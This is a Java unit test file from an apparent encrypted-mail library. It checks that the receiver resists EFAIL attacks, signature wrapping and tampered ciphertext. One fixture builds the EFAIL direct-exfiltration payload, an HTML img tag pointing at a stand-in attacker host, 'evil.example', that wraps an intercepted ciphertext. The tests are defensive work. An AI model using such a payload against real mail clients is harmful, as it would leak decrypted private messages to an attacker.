package org.sealpost.inbound;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.sealpost.inbound.ReceiverFixture.field;
import static org.sealpost.testmail.Cast.ANN;
import static org.sealpost.testmail.Cast.MING;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.sealpost.inbound.OpenedMail.Encryption;
import org.sealpost.mime.Content;
import org.sealpost.testmail.Mails;
import org.sealpost.testmail.Makes;
import org.sealpost.trust.Verdict;

/**
 * The attacks of EFAIL (2018): an intercepted ciphertext is altered, or put beside text of the
 * attacker's, so that the victim's client sends the plaintext away when it shows the mail.
 */
class EfailTest extends ReceivingFixture {
  private static final String FROM = "From: ann@example.tw\n";

  private byte[] secret;

  @BeforeEach
  void writeSecret() throws Exception {
    secret = Makes.entity("Content-Type: text/plain\n\nThe secret.\n");
  }

  @Test
  void anEncryptedPartBesideOthersIsNotDecrypted() throws Exception {
    String part = new String(makes.encrypted(secret, MING.encryption()), ISO_8859_1);
    Content mail =
        mixed(
            "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/",
            part,
            "Content-Type: text/html\r\n\r\n\">");

    OpenedMail opened = ming.open(mail);

    assertThat(Mails.bytes(opened.mail())).isEqualTo(Mails.bytes(mail));
    assertThat(opened.encryption()).isEqualTo(new Encryption.None());
    assertThat(ming.agent.decryptions()).isZero();
  }

  @Test
  void anEncryptedPartAloneInAMultipartIsNotDecryptedEither() throws Exception {
    Content mail = mixed(new String(makes.encrypted(secret, MING.encryption()), ISO_8859_1));

    assertThat(Mails.bytes(ming.open(mail).mail())).isEqualTo(Mails.bytes(mail));
    assertThat(ming.agent.decryptions()).isZero();
  }

  @Test
  void anEncryptedPartBesideOthersUnderASignatureIsNotDecrypted() throws Exception {
    String part = new String(makes.encrypted(secret, MING.encryption()), ISO_8859_1);
    byte[] wrapped = Mails.bytes(mixed("Content-Type: text/html\r\n\r\n<img", part));

    OpenedMail opened = ming.open(Makes.mail(FROM, makes.signed(wrapped, ANN.signing())));

    assertThat(Mails.text(opened.mail())).doesNotContain("The secret");
    assertThat(opened.encryption()).isEqualTo(new Encryption.None());
    assertThat(ming.agent.decryptions()).isZero();
  }

  @Test
  void anEncryptedPartBesideOthersInsideAnEncryptionIsNotDecrypted() throws Exception {
    String part = new String(makes.encrypted(secret, MING.encryption()), ISO_8859_1);
    byte[] wrapped = Mails.bytes(mixed("Content-Type: text/html\r\n\r\n<img", part));

    OpenedMail opened = ming.open(Makes.mail(FROM, makes.encrypted(wrapped, MING.encryption())));

    assertThat(Mails.text(opened.mail())).doesNotContain("The secret");
    assertThat(ming.agent.decryptions()).isEqualTo(1);
  }

  @Test
  void aSignedPartBesideOthersDoesNotMakeTheMailSigned() throws Exception {
    String part = new String(makes.signed(secret, ANN.signing()), ISO_8859_1);
    Content mail = mixed("Content-Type: text/html\r\n\r\nThe attacker's", part);

    OpenedMail opened = ming.open(mail);

    assertThat(opened.verdict()).isEqualTo(new Verdict.Unsigned());
    assertThat(Mails.bytes(opened.mail())).isEqualTo(Mails.bytes(mail));
  }

  @Test
  void textAroundASignedPartIsNotShownWithIt() throws Exception {
    String signed = new String(makes.signed(secret, ANN.signing()), ISO_8859_1);
    int body = signed.indexOf("\r\n\r\n") + 4;
    String wrapped =
        signed.substring(0, body)
            + "Preamble of the attacker's\r\n"
            + signed.substring(body)
            + "\r\nEpilogue of the attacker's\r\n";

    OpenedMail opened = ming.open(Makes.mail(FROM, wrapped.getBytes(ISO_8859_1)));

    assertThat(opened.verdict()).isInstanceOf(Verdict.Unchecked.class);
    assertThat(Mails.text(opened.mail())).doesNotContain("attacker").contains("The secret.");
  }

  @Test
  void plaintextWithoutIntegrityIsMarkedSo() throws Exception {
    OpenedMail opened = ming.open(Makes.mail(FROM, makes.encrypted(secret, MING.encryption())));

    assertThat(opened.authenticated()).isFalse();
    assertThat(field(opened, "X-Sealpost-Encryption"))
        .contains("decrypted; cipher=AES-256-CBC; authenticated=no");
  }

  @Test
  void aBrokenSignatureInsideIsNoIntegrity() throws Exception {
    String signed = new String(makes.signed(secret, ANN.signing()), ISO_8859_1);
    byte[] altered = signed.replace("The secret.", "The secreT.").getBytes(ISO_8859_1);

    OpenedMail opened = ming.open(Makes.mail(FROM, makes.encrypted(altered, MING.encryption())));

    assertThat(opened.authenticated()).isFalse();
    assertThat(opened.verdict()).isInstanceOf(Verdict.Invalid.class);
  }

  @Test
  void honestMailSignedThenEncryptedHasIntegrity() throws Exception {
    byte[] layers = makes.encrypted(makes.signed(secret, ANN.signing()), MING.encryption());

    assertThat(ming.open(Makes.mail(FROM, layers)).authenticated()).isTrue();
  }

  @Test
  void anotherPersonsSignatureAroundACiphertextIsNoIntegrity() throws Exception {
    byte[] layers = makes.signed(makes.encrypted(secret, MING.encryption()), MING.signing());

    assertThat(ming.open(Makes.mail(FROM, layers)).authenticated()).isFalse();
  }

  @Test
  void theSendersSignatureAroundACiphertextIsIntegrity() throws Exception {
    byte[] layers = makes.signed(makes.encrypted(secret, MING.encryption()), ANN.signing());

    assertThat(ming.open(Makes.mail(FROM, layers)).authenticated()).isTrue();
  }

  @Test
  void anAuthenticatedEncryptionAroundACiphertextIsNoIntegrity() throws Exception {
    byte[] inner = makes.encrypted(secret, MING.encryption());
    byte[] layers = makes.encrypted(inner, "-aes-256-gcm", MING.encryption());

    assertThat(ming.open(Makes.mail(FROM, layers)).authenticated()).isFalse();
  }

  @Test
  void alteredAuthenticatedCiphertextIsNotShown() throws Exception {
    String whole =
        new String(makes.encrypted(secret, "-aes-256-gcm", MING.encryption()), ISO_8859_1);
    int last = whole.stripTrailing().length() - 30;
    char flipped = whole.charAt(last) == 'A' ? 'B' : 'A';
    String altered = whole.substring(0, last) + flipped + whole.substring(last + 1);

    OpenedMail opened = ming.open(Makes.mail(FROM, altered.getBytes(ISO_8859_1)));

    assertThat(opened.encryption()).isInstanceOf(Encryption.Failed.class);
    assertThat(opened.authenticated()).isFalse();
    assertThat(Mails.text(opened.mail())).doesNotContain("The secret");
  }

  private static Content mixed(String... parts) {
    StringBuilder mail =
        new StringBuilder(
            "From: ann@example.tw\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n");
    for (String part : parts) {
      mail.append("--b\r\n").append(part).append("\r\n");
    }
    return Content.of(mail.append("--b--\r\n").toString().getBytes(ISO_8859_1));
  }
}
